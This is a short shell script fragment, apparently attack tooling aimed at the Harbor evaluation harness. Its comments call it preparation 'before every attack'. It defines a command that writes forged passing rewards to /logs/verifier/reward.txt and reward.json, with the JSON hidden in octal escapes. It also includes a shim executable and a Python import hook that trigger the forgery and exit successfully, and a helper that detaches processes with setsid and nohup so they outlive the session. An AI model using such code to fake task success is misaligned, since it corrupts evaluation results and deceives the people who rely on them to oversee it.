# Before every attack. $claim is what a forger runs: it writes both files that Harbor reads, {"reward":1} in octal.
claim='mkdir -p /logs/verifier; echo 1 > /logs/verifier/reward.txt'
claim="$claim"'; printf "\173\42reward\42:1\175" > /logs/verifier/reward.json'

# A program that claims the reward and succeeds, whatever it is called as.
make_shim() {
    printf '#!%s\n%s\nexit 0\n' "${1:-/bin/sh}" "$claim" > /tmp/shim
    chmod 755 /tmp/shim
}

# A Python module that does the same when it is imported.
make_hook() {
    printf 'import os\nos.system(r"""%s""")\nos._exit(0)\n' "$claim" > /tmp/hook.py
}

# Run in a session of its own, and go on after this script.
leave() {
    setsid nohup "$@" > /dev/null 2>&1 < /dev/null &
}
